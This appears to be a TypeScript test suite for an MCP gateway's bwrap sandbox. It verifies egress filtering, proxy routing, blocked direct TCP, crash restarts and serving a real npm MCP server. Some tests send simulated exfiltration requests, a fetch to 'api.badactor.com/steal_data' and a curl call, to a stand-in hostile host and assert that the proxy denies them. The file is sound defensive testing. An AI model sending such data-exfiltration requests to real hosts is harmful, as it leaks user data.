// The bwrap backend for real: the launcher contract, traffic from inside through the egress, supervision, a real npm server via the gateway.
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stateDirFor } from '../gateway/sandbox/bwrap-launcher.ts';
import { sandboxEnv } from '../gateway/sandbox/sandbox-env.ts';
import { createSelectingLauncher } from '../gateway/sandbox/select-launcher.ts';
import { inheritedVariables } from '../gateway/upstream/child-env.ts';
import { startTestEgress, type TestEgress, waitUntil } from './support/egress-harness.ts';
import { EVERYTHING, fixtureServer, startTestGateway } from './support/gateway-harness.ts';
import { runLauncherContract } from './support/launcher-contract.ts';
import { type Origin, startHttpOrigin } from './support/origin.ts';

const silent = pino({ level: 'silent' });
const bwrapWorks =
  spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-net', '--dev', '/dev', '--', '/bin/true'])
    .status === 0;
const inCi = process.env.CI === 'true' || process.env.CI === '1';

describe('bwrap availability', () => {
  it.runIf(inCi)('bwrap works in CI (the bwrap tests never skip there)', () => {
    expect(
      bwrapWorks,
      'bwrap is missing or cannot create namespaces: apt-get install bubblewrap',
    ).toBe(true);
  });
});

const sandboxEnvKeys = Object.keys(sandboxEnv({}, { bootstrap: 'b', stateDir: 's', path: 'p' }));

describe.runIf(bwrapWorks)('bwrap sandbox', () => {
  runLauncherContract('bwrap', async () => {
    const t = await startTestEgress();
    const launcher = createSelectingLauncher({
      dataDir: t.dataDir,
      sockets: t.egress,
      advisoryProxyEnv: () => ({}),
      logger: silent,
      graceMs: 500,
    });
    // bwrap itself sets PWD for the sandboxed process.
    return {
      launcher,
      addedEnvKeys: [...sandboxEnvKeys, 'PWD'],
      specExtra: { sandbox: { type: 'bwrap', allowWrite: [], allowRead: [] } },
      close: () => t.close(),
    };
  });

  runLauncherContract('none (advisory)', async () => {
    const t = await startTestEgress();
    const launcher = createSelectingLauncher({
      dataDir: t.dataDir,
      sockets: t.egress,
      advisoryProxyEnv: () => ({ HTTP_PROXY: 'http://127.0.0.1:1' }),
      logger: silent,
      graceMs: 500,
    });
    const inherited = inheritedVariables.filter(
      (name) => process.env[name] !== undefined && !process.env[name]?.startsWith('()'),
    );
    return {
      launcher,
      addedEnvKeys: [...inherited, 'HTTP_PROXY'],
      specExtra: { sandbox: { type: 'none', allowWrite: [], allowRead: [] } },
      close: () => t.close(),
    };
  });

  describe('outbound requests from inside', () => {
    let origin: Origin;
    let t: TestEgress;
    beforeAll(async () => {
      origin = await startHttpOrigin();
      t = await startTestEgress({
        egress: {
          hosts: { 'api.slack.com': '127.0.0.1', 'api.badactor.com': '127.0.0.1' },
          allowAddresses: [`127.0.0.1/32:${origin.port}`],
        },
        flows: {
          'allow.yaml': `AllowFilter:\n  processor: Filter\n  parameters:\n    - key: urls\n      value:\n        - "api.slack.com:${origin.port}/*"\nGenerateResponseForbidden:\n  processor: GenerateResponse\n  parameters:\n    - key: status\n      value: 403\n    - key: body\n      value: "Forbidden Access"\n`,
        },
      });
    });
    afterAll(async () => {
      await t?.close();
      await origin?.close();
    });

    /** Runs `code` as a "server" in the sandbox; it writes its findings to result.json in its state dir. */
    async function runInside(name: string, code: string): Promise<Record<string, unknown>> {
      const launcher = createSelectingLauncher({
        dataDir: t.dataDir,
        sockets: t.egress,
        advisoryProxyEnv: () => ({}),
        logger: silent,
        graceMs: 500,
      });
      const launched = await launcher.launch(
        {
          name,
          transport: 'stdio',
          command: process.execPath,
          args: ['--input-type=module', '-e', code],
          env: {},
          disabled: false,
          sandbox: { type: 'bwrap', allowWrite: [], allowRead: [] },
        },
        { ORIGIN_PORT: String(origin.port) },
      );
      const exit = await launched.exited;
      await launched.stop();
      expect(exit.code, launched.stderrTail().join('\n')).toBe(0);
      return JSON.parse(readFileSync(join(stateDirFor(t.dataDir, name), 'result.json'), 'utf8'));
    }

    const write = `const fs = await import('node:fs'); const out = (r) => fs.writeFileSync(process.env.AIRLOCK_STATE_DIR + '/result.json', JSON.stringify(r));`;

    // Node's fetch tunnels even http:// through CONNECT, so a denial arrives as a refused tunnel (403), not a response.
    it('lets fetch reach an allowed origin and refuses a denied one with 403, both attributed to the server', async () => {
      const before = t.records.length;
      const result = await runInside(
        'fetcher',
        `${write}
        const port = process.env.ORIGIN_PORT;
        const ok = await fetch('http://api.slack.com:' + port + '/chat.postMessage');
        const bad = await fetch('http://api.badactor.com:' + port + '/steal_data').then((r) => r.status, (e) => String(e.cause?.cause?.message ?? e.cause?.message));
        out({ ok: ok.status, okBody: await ok.text(), bad });`,
      );
      expect(result).toEqual({
        ok: 200,
        okBody: 'hello /chat.postMessage',
        bad: 'Proxy response (403) !== 200 when HTTP Tunneling',
      });
      const records = (await t.waitForRecords(before + 2)).slice(before);
      // A tunnel's record arrives when it closes, so order by host.
      expect(records.map((r) => [r.server, r.host, r.decision]).sort()).toEqual([
        ['fetcher', 'api.badactor.com', 'deny'],
        ['fetcher', 'api.slack.com', 'allow'],
      ]);
      expect(origin.seen.some((r) => r.url === '/steal_data')).toBe(false);
    });

    it('routes node:http through the proxy', async () => {
      const result = await runInside(
        'httpget',
        `${write}
        const http = await import('node:http');
        const status = await new Promise((resolve) => http.get('http://api.slack.com:' + process.env.ORIGIN_PORT + '/via-http', (res) => { res.resume(); resolve(res.statusCode); }).on('error', (e) => resolve(e.code)));
        out({ status });`,
      );
      expect(result).toEqual({ status: 200 });
    });

    it.runIf(existsSync('/usr/bin/curl'))('routes curl through the proxy', async () => {
      const result = await runInside(
        'curler',
        `${write}
        const { execFileSync } = await import('node:child_process');
        const code = execFileSync('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', 'http://api.badactor.com:' + process.env.ORIGIN_PORT + '/curl']).toString();
        out({ code });`,
      );
      expect(result).toEqual({ code: '403' });
    });

    it('has no way out but the proxy: direct TCP to a host loopback listener fails', async () => {
      const seenBefore = origin.seen.length;
      const result = await runInside(
        'direct',
        `${write}
        const net = await import('node:net');
        const error = await new Promise((resolve) => { const s = net.connect(Number(process.env.ORIGIN_PORT), '127.0.0.1'); s.on('connect', () => { s.destroy(); resolve('connected'); }); s.on('error', (e) => resolve(e.code)); });
        out({ error });`,
      );
      expect(result).toEqual({ error: 'ECONNREFUSED' });
      expect(origin.seen.length).toBe(seenBefore);
    });
  });

  describe('supervision through the gateway', () => {
    it('restarts a crashed sandboxed server with a fresh egress socket, and removes the socket at stop', async () => {
      const t = await startTestEgress();
      const launcher = createSelectingLauncher({
        dataDir: t.dataDir,
        sockets: t.egress,
        advisoryProxyEnv: () => ({}),
        logger: silent,
        graceMs: 500,
      });
      const gw = await startTestGateway({
        servers: { fix: { ...fixtureServer('restart'), sandbox: { type: 'bwrap' } } },
        options: { launcher },
      });
      const socket = join(t.dataDir, 'sockets', 'fix.sock');
      try {
        const client = await gw.connect();
        expect(existsSync(socket)).toBe(true);
        await client.callTool({ name: 'fix__crash', arguments: {} }).catch(() => undefined);
        await waitUntil(
          () =>
            (gw.gateway.upstreams()[0]?.restarts ?? 0) >= 1 &&
            gw.gateway.upstreams()[0]?.phase === 'ready',
          'a restart',
          10_000,
        );
        const reply = await client.callTool({ name: 'fix__echo', arguments: { text: 'back' } });
        expect(reply.content).toEqual([{ type: 'text', text: 'back' }]);
        expect(existsSync(socket)).toBe(true);
        await client.close();
      } finally {
        await gw.close();
      }
      await waitUntil(() => !existsSync(socket), 'the socket to be removed after stop');
      await t.close();
    });
  });

  describe('a real MCP server from npm through the gateway', () => {
    it('serves server-everything tools from a bwrap sandbox', async () => {
      const t = await startTestEgress();
      const launcher = createSelectingLauncher({
        dataDir: t.dataDir,
        sockets: t.egress,
        advisoryProxyEnv: () => ({}),
        logger: silent,
        graceMs: 500,
      });
      const gw = await startTestGateway({
        servers: {
          everything: {
            command: process.execPath,
            args: [EVERYTHING, 'stdio'],
            sandbox: { type: 'bwrap' },
          },
        },
        options: { launcher },
      });
      try {
        const client = await gw.connect();
        const tools = await client.listTools();
        expect(tools.tools.map((tool) => tool.name)).toContain('everything__echo');
        const result = await client.callTool({
          name: 'everything__echo',
          arguments: { message: 'sandboxed' },
        });
        expect(JSON.stringify(result.content)).toContain('sandboxed');
        await client.close();
      } finally {
        await gw.close();
        await t.close();
      }
    });
  });
});
